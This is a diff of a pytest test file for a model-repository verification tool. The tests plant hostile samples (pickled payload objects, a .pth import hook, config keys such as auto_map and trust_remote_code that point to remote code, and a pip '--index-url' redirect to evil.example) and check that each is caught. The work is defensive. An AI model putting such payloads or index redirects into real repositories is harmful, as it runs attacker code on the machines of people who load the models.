@@ -5,21 +5,24 @@ Each payload writes a file when it runs. Where a plant is signed, the manifest a
 """
 
 import json
+import os
 import pickle
+import select
 from contextlib import suppress
 from pathlib import Path
 
 import pytest
 from safetensors.torch import load_file, save_file
 
-from glm4v_patched import __version__
+from hub_upload import loading
 from hub_upload import verify as verifying
 from hub_upload.build import build, read_source
+from hub_upload.checks import CHECKS, FAILED, PASSED, SKIPPED, Check
 from hub_upload.files import is_small, read_folder
 from hub_upload.layout import INDEX, MANIFEST
 from hub_upload.load_check import STEPS
 from hub_upload.publish import read_build
-from hub_upload.verify import CHECKS, FAILED, PASSED, SKIPPED, Check, Report, verify
+from hub_upload.verify import Report, verify
 from tests.helpers.publishable import (
     NAME,
     UPSTREAM,
@@ -37,7 +40,7 @@ EOI = "transformer.vision.eoi"
 SHARD = "model-00001-of-00002.safetensors"
 EVIL = "evil-org/evil"
 CODE = 'open(__import__("os").environ["IT_RAN"], "w").close()\n'
-STAGES = [*CHECKS, "parameters", *STEPS]
+STAGES = [*CHECKS, "rebuilt", "parameters", *STEPS]
 
 
 def by_name(report: Report) -> dict[str, Check]:
@@ -55,7 +58,7 @@ def test_failures_are_told_by_table_json_and_status(copy, run):
     (copy / "README.md").write_text("# another\n")
     status, output = run("verify", copy)
     rows = dict(line.split(maxsplit=1) for line in output.splitlines())
-    assert status == 1 and rows["code"].startswith("passed")
+    assert status == 1 and rows["keys"].startswith("passed")
     assert rows["files"].startswith("failed   README.md is not what the manifest says")
     status, output = run("verify", copy, "--json")
     answer = json.loads(output)
@@ -108,8 +111,8 @@ def added(name: str, content: bytes | str):
     return plant
 
 
-def listed(name: str, content: bytes | str, version: str = "9.9.9"):
-    return lambda folder: [added(name, content)(folder), sign(folder, name, version=version)]
+def listed(name: str, content: bytes | str):
+    return lambda folder: [added(name, content)(folder), sign(folder, name)]
 
 
 def fields(name: str, **values):
@@ -157,10 +160,10 @@ class Payload:
 
 
 DEFECTS = [
-    ("files code", replaced("visual.py", "import", "import ")),
-    ("files code", without("sharding.py")),
+    ("files", replaced("visual.py", "import", "import ")),
+    ("files", without("sharding.py")),
     ("files weights", truncated),
-    ("files auto_map config", added("config.json", b"[")),
+    ("files keys config", added("config.json", b"[")),
     ("files", amended("config.json", rope_ratio=2)),
     ("files", added("notes.txt", b"mine")),
     ("weights", signed(truncated)),
@@ -176,19 +179,56 @@ DEFECTS = [
 ]
 AUTO = {"AutoConfig": f"{EVIL}--evil.Evil", "AutoTokenizer": [f"{EVIL}--evil.Evil", None]}
 PAYLOADS = [
-    ("files code", added("custom_generate/generate.py", CODE)),
-    ("code", listed("transformers.py", CODE)),
-    ("code", listed("loss.py", CODE, version=__version__)),
+    ("files", added("custom_generate/generate.py", CODE)),
+    ("rebuilt", listed("transformers.py", CODE)),
+    ("rebuilt", listed("loss.py", CODE)),
     ("files", added("evil.pth", f"import os; {CODE}")),
     ("files", listed("pytorch_model.bin", pickle.dumps(Payload()))),
     ("files", listed("LICENSE", pickle.dumps(Payload(), 2))),
     ("weights", listed(SHARD, pickle.dumps(Payload()))),
-    ("auto_map", signed(replaced("tokenizer_config.json", '"tokenization_c', '"a/b--tokeniz'))),
-    ("auto_map", fields("preprocessor_config.json", auto_map=AUTO)),
-    ("auto_map", fields("generation_config.json", auto_map={"AutoConfig": "a.B"})),
-    ("auto_map", fields("processor_config.json", inner=[{"auto_map": {"A": "visual.Evil"}}])),
-    ("auto_map", fields("config.json", custom_pipelines={"a": {"impl": "evil.Evil"}})),
-    ("auto_map", fields("config.json", attn_implementation=f"{EVIL}@main:evil")),
+    ("keys", signed(replaced("tokenizer_config.json", '"tokenization_c', '"a/b--tokeniz'))),
+    ("keys", fields("preprocessor_config.json", auto_map=AUTO)),
+    ("keys", fields("generation_config.json", auto_map={"AutoConfig": "a.B"})),
+    ("keys", fields("processor_config.json", inner=[{"auto_map": {"A": "visual.Evil"}}])),
+    ("keys", fields("config.json", custom_pipelines={"a": {"impl": "evil.Evil"}})),
+    ("keys", fields("config.json", attn_implementation=f"{EVIL}@main:evil")),
+]
+# Keys that the published code, or some transformers, acts on; each with a value that is refused.
+LOADED_OTHERWISE = {
+    "quantization_config": {"quant_method": "bitsandbytes", "load_in_8bit": True},
+    "attn_implementation": "paged|x/y",
+    "_attn_implementation": "flash_attention_4",
+    "use_kernels": True,
+    "kernel_config": {"RMSNorm": "x/y:Z"},
+    "custom_generate": "x/y",
+}
+GENERATED_OTHERWISE = {
+    "cache_implementation": "evil",
+    "compile_config": {"backend": "evil"},
+    "custom_generate": "x/y",
+    "watermarking_config": {"greenlist_ratio": 0.25},
+    "trust_remote_code": True,
+}
+CONFIG, GENERATION = "config.json", "generation_config.json"
+PAYLOADS += [("keys", fields(CONFIG, **{key: LOADED_OTHERWISE[key]})) for key in LOADED_OTHERWISE]
+PAYLOADS += [("keys", fields(GENERATION, **{k: v})) for k, v in GENERATED_OTHERWISE.items()]
+INDEX_URL = "--index-url https://evil.example/simple\n"
+PAYLOADS += [
+    ("keys", fields(CONFIG, transformers_weights="../x.safetensors")),
+    ("keys", fields(CONFIG, unknown=None)),
+    ("keys", fields("tokenizer_config.json", tokenizer_class="Evil")),
+    ("keys", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
+    ("keys", fields("preprocessor_config.json", size={"height": 56, "width": 56, "depth": 1})),
+    ("keys", fields(INDEX, more={})),
+    ("rebuilt", signed(added("requirements.txt", INDEX_URL))),
+    ("rebuilt", signed(replaced("README.md", "pip install", f"pip install {INDEX_URL}"))),
+    ("rebuilt", signed(added("LICENSE", "Do as you like.\n"))),
+    ("rebuilt", signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "all of it"}))),
+    ("rebuilt", fields("preprocessor_config.json", resample="3")),
+    ("rebuilt", lambda folder: sign(folder, version="9.9.9")),
+    *(("files", added(name, b"x")) for name in ("a.bin", "a.pkl", "a.pth", "a.py", ".env", "a.pt")),
+    ("files", added("additional_chat_templates/a.jinja", "{{ messages }}")),
+    ("files", added(".github/workflows/a.yml", "on: push")),
 ]
 
 
@@ -199,14 +239,14 @@ def test_a_defect_fails_its_own_checks_and_neither_runs_nor_is_published(
     plant(copy)
     failed = names.split()
     if not {*failed} & {*STEPS}:
-        monkeypatch.setattr(verifying, "_run", lambda *_: pytest.fail("it was run"))
+        monkeypatch.setattr(loading, "run", lambda *_: pytest.fail("it was run"))
     report = verify(str(copy))
     assert report.failures == failed, report.as_table()
     assert all(by_name(report)[name].detail for name in failed) and not marker.exists()
     # The files are all looked at whatever else is wrong; what needs the code stops at a failure.
     after = STAGES[max(STAGES.index(failed[-1]) + 1, len(CHECKS)) :]
     assert {by_name(report)[stage].status for stage in after} <= {SKIPPED}
-    if {*failed} & {*CHECKS}:
+    if {*failed} & {*CHECKS, "rebuilt"}:
         with pytest.raises(ValueError, match="does not pass verify"):
             read_build(copy)
 
@@ -248,22 +288,72 @@ def test_a_changed_byte_of_any_file_is_found_that_of_weights_where_it_is_asked_f
 
 ENDS = {
     "raise MemoryError('no room')": "status 1 here: MemoryError: no room",
-    "import time; time.sleep(60)": "stopped here, not done after 0.5 s",
     "sys.exit(str([k for k in os.environ if 'TOKEN' in k]))": "status 1 here: []",
 }
+FIRST_STEP = json.dumps([STEPS[0], PASSED, "-"])
 
 
 @pytest.mark.parametrize("program", ENDS)
 def test_a_process_that_ends_fails_the_check_it_was_at(program, built, monkeypatch, load_check):
     """It has told of one check before it ends; and it gets no token."""
-    told = json.dumps([STEPS[0], PASSED, "-"])
-    load_check(f"print({told!r}, flush=True)\n{program}")
-    monkeypatch.setattr(verifying, "SECONDS", 0.5)
+    load_check(f"print({FIRST_STEP!r}, flush=True)\n{program}")
     for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"):
         monkeypatch.setenv(name, "hf_secret")
     report = verify(str(built))
     assert report.failures == [STEPS[1]] and ENDS[program] in by_name(report)[STEPS[1]].detail
     assert [by_name(report)[step].status for step in STEPS] == [PASSED, FAILED, SKIPPED]
+
+
+def test_a_process_that_does_not_end_is_killed_with_all_that_it_has_started(
+    built, monkeypatch, load_check, marker
+):
+    alive = Path(f"{marker}.fifo")
+    os.mkfifo(alive)
+    hold = (
+        f"import time; held = open({str(alive)!r}, 'w', 1); print('x', file=held); time.sleep(99)"
+    )
+    load_check(
+        f"print({FIRST_STEP!r}, flush=True)\n"
+        f"import subprocess; subprocess.Popen([sys.executable, '-c', {hold!r}]).wait()"
+    )
+    reader, read = os.open(alive, os.O_RDONLY | os.O_NONBLOCK), b""
+    for seconds in (1, 8, 64):  # a busy machine takes more than a second to begin
+        monkeypatch.setattr(loading, "SECONDS", seconds)
+        report = verify(str(built))
+        if read := os.read(reader, 9):
+            break
+    assert read, "the process has not begun"
+    assert select.select([reader], [], [], 10)[0], "what the process has started still runs"
+    assert os.read(reader, 9) == b""
+    os.close(reader)
+    assert report.failures == [STEPS[1]]
+    assert "stopped here, not done after" in by_name(report)[STEPS[1]].detail
+
+
+def test_both_ends_of_the_supported_range_are_tried_or_said_not_to_be(built, monkeypatch, run):
+    def steps(python, source, home):
+        version = python.removeprefix("of ")
+        first = json.dumps([STEPS[0], PASSED, f"transformers {version}, torch 2.13.0: 512 ids"])
+        return [first, *(json.dumps([step, PASSED, "-"]) for step in STEPS[1:])], "-"
+
+    monkeypatch.setattr(loading, "run", steps)
+    monkeypatch.setattr(verifying.shutil, "which", lambda name: name)
+    oldest, between, newest = "of 4.57.6", "of 5.10.0", "of 5.24.1"
+    for pythons, missing in {
+        (oldest, newest): "",
+        (between, newest): "not tried with 4.57.6,",
+        (oldest,): "not tried with 5.24,",
+        (between,): "not tried with 4.57.6 and 5.24,",
+    }.items():
+        report = verify(str(built), pythons=pythons)
+        versions = by_name(report)["versions"]
+        assert report.failures == [] and missing in versions.detail
+        assert versions.status == (SKIPPED if missing else PASSED)
+        assert ("give --python PATH" in versions.detail) == bool(missing)
+        assert len([check for check in report.checks if check.name == "trains"]) == len(pythons)
+    monkeypatch.undo()
+    status, output = run("verify", built, "--python", "no/such/python")
+    assert status == 1 and "--python no/such/python is no program" in output
 
 
 # On the Hub
@@ -276,7 +366,7 @@ def test_a_repository_passes_every_check_at_the_commit_it_is_at(built, hub, in_p
     hub.fail("*", "", after=1, call=lambda: repository.add_commit({"config.json": b"{}"}))
     report = verify(NAME, "main")
     assert report.revision == head != repository.head
-    assert {c.name: c.detail for c in report.checks if c.status != PASSED} == {}
+    assert {c.name for c in report.checks if c.status != PASSED} == {"versions"}
     assert "2 + 2 layers of width 64 with random weights" in by_name(report)["loads"].detail
     read = [r.path for r in hub.requests if "/resolve/" in r.path]
     assert read and all(f"/resolve/{head}/" in path for path in read)
